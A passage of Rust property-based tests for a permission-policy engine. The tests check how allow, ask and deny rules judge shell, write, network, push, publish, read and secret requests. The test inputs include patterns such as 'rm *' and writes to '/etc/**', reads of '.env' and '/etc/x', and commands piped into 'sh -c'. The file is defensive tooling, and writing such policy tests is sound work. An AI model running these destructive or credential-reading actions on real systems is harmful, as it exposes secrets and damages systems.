        (Shell, Some("git *")),
        (Shell, Some("git push *")),
        (Shell, Some("rm *")),
        (Shell, Some("a")),
        (Shell, Some("* x")),
        (Shell, Some("b *")),
        (Write, Some("keep/**")),
        (Write, Some("**")),
        (Network, Some("e.com")),
        (Network, None),
        (GitPush, None),
        (Publish, Some("npm*")),
        (Read, Some("x")),
        (RuleKind::Any, None),
        (GitCommit, Some("*")),
        (Write, Some("/etc/**")),
        (RuleKind::Patch, None),
    ]);
    (effect, what).prop_map(|(effect, (kind, matches))| Rule::new(effect, kind, matches).unwrap())
}

fn some_request() -> impl Strategy<Value = Request> {
    prop_oneof![
        simple_command().prop_map(|line| shell(&line)),
        (simple_command(), simple_command())
            .prop_map(|(a, b)| shell(&format!("{a} | sh -c '{}'", b.replace('\'', "")))),
        Just(shell("case")),
        prop::sample::select(vec!["x", "keep/x", "/etc/x", ".env"]).prop_map(support::read),
        prop::sample::select(vec!["x", "keep/x", "/etc/x", ".env"]).prop_map(support::write),
        Just(support::push("origin", "main")),
        Just(support::secret("KEY")),
    ]
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 1_000, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn c11_a_further_deny_or_ask_rule_never_permits_more(
        rules in prop::collection::vec(some_rule(), 0..5), added in some_rule(), request in some_request(), stored: bool,
    ) {
        let base = policy(&rules);
        let before = judge(&base, &subject(), &request).effect;
        let mut more = base.clone();
        if stored { more.stored.push(added.clone()) } else { more.rules.insert(0, added.clone()) }
        let after = judge(&more, &subject(), &request).effect;
        match added.effect() {
            Deny => prop_assert!(after >= before, "{:?}", added),
            // A rule that asks may soften a default refusal outside, and only where it names the place.
            Ask => prop_assert!(after >= before.min(Ask), "{:?}", added),
            Allow => prop_assert!(after <= before, "{:?}", added),
        }
    }

    #[test]
    fn c11_an_allow_rule_never_overrides_a_deny_rule(
        denies in prop::collection::vec(some_rule(), 1..4), added in some_rule(), request in some_request(),
    ) {
        let denies: Vec<Rule> = denies.into_iter().filter(|rule| rule.effect() == Deny).collect();
        let before = judge(&policy(&denies), &subject(), &request);
        let by_rule = matches!(before.because, Because::Rule { .. } | Because::Mentions { .. });
        if before.effect == Deny && by_rule {
            let both: Vec<Rule> = std::iter::once(added).chain(denies).collect();
            prop_assert_eq!(judge(&policy(&both), &subject(), &request).effect, Deny);
        }
    }

    #[test]
    fn c11_a_line_is_judged_as_the_most_severe_of_its_commands(
        rules in prop::collection::vec(some_rule(), 0..6), a in simple_command(), b in simple_command(),
        operator in prop::sample::select(vec![" && ", " || ", "; ", "\n", " & ", " | "]),
    ) {
        let effect = |line: &str| judged(&rules, line).effect;
        let worst = effect(&a).max(effect(&b));
        for line in [format!("{a}{operator}{b}"), format!("( {a} ){operator}{{ {b}; }}")] {
            // What a command that is not known may run is looked for in the whole line.
            let known = parse(&line).unwrap().iter().all(|command| command.opening != Opening::Opaque);
            prop_assert!(if known { effect(&line) == worst } else { effect(&line) >= worst }, "{}", line);
        }
    }

    #[test]
    fn c11_judging_never_panics(line in ".{0,100}", rules in prop::collection::vec(some_rule(), 0..6)) {
        let judgement = judged(&rules, &line);
        prop_assert!(!judgement.parts.is_empty());
        prop_assert_eq!(judgement.parts.iter().map(|part| part.effect).max(), Some(judgement.effect));
    }

    #[test]
    fn c11_a_policy_reads_back_as_it_was_written(
        rules in prop::collection::vec(some_rule(), 0..5), stored in prop::collection::vec(some_rule(), 0..5), version: u64,
    ) {
        let policy = Policy { version, rules, stored, ..Policy::default() };
        let text = serde_json::to_string(&policy).unwrap();
        prop_assert_eq!(serde_json::from_str::<Policy>(&text).unwrap(), policy);
    }
}
